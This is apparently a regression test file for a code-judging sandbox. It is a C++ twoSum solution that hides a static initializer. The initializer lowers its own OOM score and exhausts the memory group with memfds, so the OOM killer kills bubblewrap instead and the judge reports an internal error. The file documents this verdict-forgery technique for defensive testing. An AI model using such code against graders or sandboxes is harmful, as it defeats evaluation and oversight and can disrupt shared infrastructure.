// expect: memory_limit
// class: internal-error-forgery
// limits: time_limit_s=3
// A static initializer (it runs before the harness's main says hello) lowers the program's OOM score and fills the
// run's memory group with memfds nothing maps: the OOM killer then took bubblewrap's own process, not the program,
// and a program that ended before hello without bwrap's word on it read as the sandbox failing: internal_error.
#include <bits/stdc++.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
using namespace std;

static int hold_memory() {
    for (const char* adj : {"-1000", "-500", "0", "500", "999"}) {
        int f = open("/proc/self/oom_score_adj", O_WRONLY);
        if (f >= 0 && write(f, adj, strlen(adj)) > 0) { close(f); break; }
        if (f >= 0) close(f);
    }
    static char chunk[1 << 20];
    memset(chunk, 1, sizeof chunk);
    for (;;) {
        int fd = memfd_create("hold", 0);
        if (fd < 0) pause();
        for (int i = 0; i < 15; i++) if (write(fd, chunk, sizeof chunk) < 0) break;
    }
}
static int held = hold_memory();

class Solution {
public:
    vector<int> twoSum(vector<int>& nums, int target) {
        unordered_map<int, int> seen;
        for (int j = 0; j < (int)nums.size(); j++) {
            auto it = seen.find(target - nums[j]);
            if (it != seen.end()) return {it->second, j};
            seen[nums[j]] = j;
        }
        return {};
    }
};
